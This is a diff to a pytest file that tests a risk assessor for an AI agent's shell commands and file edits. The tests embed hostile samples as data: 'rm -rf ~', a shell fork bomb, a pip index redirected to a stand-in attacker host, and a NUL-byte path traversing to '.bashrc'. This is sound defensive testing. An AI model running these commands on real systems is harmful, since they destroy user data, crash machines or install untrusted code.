@@ -294,24 +294,15 @@ NOT_HIGH = [
 ]
 
 
-@pytest.fixture
-def project(tmp_path: Path) -> Path:
-    path = tmp_path / "project"
-    path.mkdir()
-    (path / ".env").write_text("TOKEN=abcdefgh12345678\n")
-    (path / "notes.txt").write_text("TODO\n")
-    return path
-
-
 @pytest.mark.parametrize("command", HIGH_CASES)
-def test_round_two_forms_are_high(project: Path, command: str) -> None:
-    assessment = assess_case("cmd", command, project)
+def test_round_two_forms_are_high(secret_project: Path, command: str) -> None:
+    assessment = assess_case("cmd", command, secret_project)
     assert assessment.risk is Risk.HIGH, (command, assessment.reasons)
 
 
 @pytest.mark.parametrize("command", NOT_HIGH)
-def test_ordinary_work_stays_below_high(project: Path, command: str) -> None:
-    assessment = assess_case("cmd", command, project)
+def test_ordinary_work_stays_below_high(secret_project: Path, command: str) -> None:
+    assessment = assess_case("cmd", command, secret_project)
     assert assessment.risk is not Risk.HIGH, (command, assessment.reasons)
 
 
@@ -338,32 +329,33 @@ NOT_HIGH_EDITS = ["src/app.py", "README.md", "Makefile", "pyproject.toml", "Dock
 
 
 @pytest.mark.parametrize("path", HIGH_EDITS)
-def test_other_agents_instruction_files_are_high_to_edit(project: Path, path: str) -> None:
-    assert assess_case("edit", {"path": path, "op": "edit"}, project).risk is Risk.HIGH
+def test_other_agents_instruction_files_are_high_to_edit(secret_project: Path, path: str) -> None:
+    assert assess_case("edit", {"path": path, "op": "edit"}, secret_project).risk is Risk.HIGH
 
 
 @pytest.mark.parametrize("path", NOT_HIGH_EDITS)
-def test_ordinary_files_are_not_high_to_edit(project: Path, path: str) -> None:
-    assert assess_case("edit", {"path": path, "op": "edit"}, project).risk is not Risk.HIGH
+def test_ordinary_files_are_not_high_to_edit(secret_project: Path, path: str) -> None:
+    assert assess_case("edit", {"path": path, "op": "edit"}, secret_project).risk is not Risk.HIGH
 
 
-def test_a_script_given_to_bash_is_judged_by_what_it_says(project: Path) -> None:
+def test_a_script_given_to_bash_is_judged_by_what_it_says(secret_project: Path) -> None:
     """`bash x.sh` ran unread (MEDIUM) while `./x.sh` was read; its functions and exports die
     with its process, so a build script that defines one is not HIGH for that."""
-    (project / "evil.sh").write_text("echo building\nrm -rf ~\n")
-    (project / "build.sh").write_text("set -e\nexport PATH=./node_modules/.bin:$PATH\nf() { echo hi; }\nf\nnpm test\n")
-    assert assess_case("cmd", "bash evil.sh", project).risk is Risk.HIGH
-    assert assess_case("cmd", "sh -e evil.sh", project).risk is Risk.HIGH
-    assert assess_case("cmd", "bash build.sh", project).risk is Risk.MEDIUM
-    (project / "index.sh").write_text("export PIP_INDEX_URL=https://evil.example/simple\npip install x\n")
-    assert assess_case("cmd", "bash index.sh", project).risk is Risk.HIGH  # it acts on the script's own install
-    (project / "bomb.sh").write_text("#!/bin/sh\nb() { b | b & }\nb\n")
-    assert assess_case("cmd", "bash bomb.sh", project).risk is Risk.HIGH  # its functions still run in it
-    (project / "build.sh").chmod(0o755)
-    assert assess_case("cmd", "./build.sh", project).risk is Risk.MEDIUM
+    (secret_project / "evil.sh").write_text("echo building\nrm -rf ~\n")
+    build = "set -e\nexport PATH=./node_modules/.bin:$PATH\nf() { echo hi; }\nf\nnpm test\n"
+    (secret_project / "build.sh").write_text(build)
+    assert assess_case("cmd", "bash evil.sh", secret_project).risk is Risk.HIGH
+    assert assess_case("cmd", "sh -e evil.sh", secret_project).risk is Risk.HIGH
+    assert assess_case("cmd", "bash build.sh", secret_project).risk is Risk.MEDIUM
+    (secret_project / "index.sh").write_text("export PIP_INDEX_URL=https://evil.example/simple\npip install x\n")
+    assert assess_case("cmd", "bash index.sh", secret_project).risk is Risk.HIGH  # it acts on the script's own install
+    (secret_project / "bomb.sh").write_text("#!/bin/sh\nb() { b | b & }\nb\n")
+    assert assess_case("cmd", "bash bomb.sh", secret_project).risk is Risk.HIGH  # its functions still run in it
+    (secret_project / "build.sh").chmod(0o755)
+    assert assess_case("cmd", "./build.sh", secret_project).risk is Risk.MEDIUM
 
 
-def test_a_path_with_a_nul_byte_is_rated_not_crashed_on(project: Path) -> None:
+def test_a_path_with_a_nul_byte_is_rated_not_crashed_on(secret_project: Path) -> None:
     """A model-supplied path with a NUL made the rating raise (an internal error that ends the run)."""
-    assert assess_case("edit", {"path": "x\x00/../../.bashrc", "op": "create"}, project).risk is Risk.HIGH
-    assert assess_case("read", {"path": "\x00"}, project).risk is Risk.HIGH
+    assert assess_case("edit", {"path": "x\x00/../../.bashrc", "op": "create"}, secret_project).risk is Risk.HIGH
+    assert assess_case("read", {"path": "\x00"}, secret_project).risk is Risk.HIGH
